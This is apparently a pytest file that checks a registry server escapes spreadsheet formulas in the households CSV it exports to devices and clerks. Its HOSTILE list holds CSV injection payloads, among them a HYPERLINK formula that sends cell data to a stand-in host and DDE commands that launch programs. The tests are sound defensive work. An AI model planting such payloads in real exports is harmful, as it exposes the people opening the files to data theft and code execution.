"""CSV files the server writes never carry a live spreadsheet formula.

Today the only one is the registry's entity list (`households.csv`, `members.csv`) that
devices download through a form's manifest, and that data clerks open in Excel. A cell
that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel
and LibreOffice (`=HYPERLINK(...)` phones home, `=cmd|...` runs programs); the server
prefixes it with `'` so it is shown as text. Plain numbers (`-3`, `+252...`) keep their
value. If another CSV or XLSX export appears, `test_no_other_export_writes_cells` fails
until it is listed here with a test.
"""

from __future__ import annotations

import csv
import io
import re
import uuid
from pathlib import Path

import pytest
from sqlalchemy.orm import Session

from server.accounts.models import District, User
from server.registry import service as registry
from server.registry.models import HOUSEHOLDS, Entity
from tests.factories import PASSWORD
from tests.security.world import basic_auth, fast_conversion
from tests.support.xlsforms import xlsx_from_sheets

ROOT = Path(__file__).resolve().parents[2]

# What an attacker puts in a household's name or answers (any enumerator, or an Excel
# import, can write them).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-inf",
]
NUMBERS = ["-3", "+252615123456", "-12.5", "1e3"]

# A form that offers the registry's households to pick from: its manifest carries
# households.csv, made per device from the registry.
VISIT_XLSX = xlsx_from_sheets(
    {
        "survey": [
            ["type", "name", "label"],
            ["select_one_from_file households.csv", "hh", "Household"],
        ],
        "settings": [["form_id", "version", "form_title"], ["household_visit", "1", "Visit"]],
    }
)


def _dangerous(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(
        r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", cell
    )


@pytest.fixture
def hostile_households(session: Session, district: District) -> list[Entity]:
    entities = []
    for index, value in enumerate(HOSTILE + NUMBERS):
        entity = Entity(
            id=uuid.uuid4(),
            list_name=HOUSEHOLDS,
            label=value,
            properties={"head_name": value, "phone": value, "position": index},
            district_id=district.id,
        )
        session.add(entity)
        entities.append(entity)
    session.flush()
    return entities


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_the_entity_list_neutralises_every_formula_in_labels_and_properties(
    session: Session, enumerator: User, hostile_households: list[Entity]
):
    rows = _rows(registry.entity_list_csv(session, enumerator, HOUSEHOLDS))
    header, body = rows[0], rows[1:]
    assert header[:3] == ["name", "label", "__version"]
    assert len(body) == len(HOSTILE + NUMBERS)
    dangerous = [cell for row in body for cell in row if _dangerous(cell)]
    assert dangerous == []
    by_position = {row[header.index("position")]: row for row in body}
    for index, value in enumerate(HOSTILE):
        row = by_position[str(index)]
        # Shown as the text it was (a carriage return as a line break), never lost.
        shown = "'" + value.replace("\r", "\n")
        assert row[1] == shown
        assert row[header.index("head_name")] == shown
    for offset, value in enumerate(NUMBERS):
        row = by_position[str(len(HOSTILE) + offset)]
        assert row[header.index("phone")] == value


def test_the_entity_list_a_device_downloads_carries_no_formula(
    app, client, session, settings_store, district, enumerator, hostile_households
):
    from server.catalog import service as catalog

    with fast_conversion():
        catalog.upload_form(
            session,
            None,
            data=VISIT_XLSX,
            filename="visit.xlsx",
            store=settings_store,
            key_encryption_key=app.config["DIIWAAN"].key_encryption_key,
            max_bytes=app.config["DIIWAAN"].max_form_bytes,
            district_ids=[district.id],
        )
    response = client.get(
        "/forms/household_visit/1/media/households.csv",
        headers=basic_auth(enumerator.username, PASSWORD),
    )
    assert response.status_code == 200, response.get_data(as_text=True)
    rows = _rows(response.data)
    assert len(rows) == 1 + len(HOSTILE + NUMBERS)
    assert [cell for row in rows[1:] for cell in row if _dangerous(cell)] == []


@pytest.fixture
def settings_store(app):
    from server.blobs import blob_store

    return blob_store(app.config["DIIWAAN"].data_dir)


def test_no_other_export_writes_cells():
    """Every place that writes CSV or spreadsheet cells is covered by a test above."""
    writers = re.compile(r"csv\.writer|csv\.DictWriter|openpyxl|xlsxwriter|\.to_csv\(|\.to_excel\(")
    found = sorted(
        f"{path.relative_to(ROOT)}"
        for package in ("server", "forms", "sync")
        for path in (ROOT / package).rglob("*.py")
        if writers.search(path.read_text(encoding="utf-8"))
    )
    # forms/xlsform.py only reads uploaded workbooks (and refuses formulas in them).
    assert found == ["forms/xlsform.py", "server/registry/service.py"]
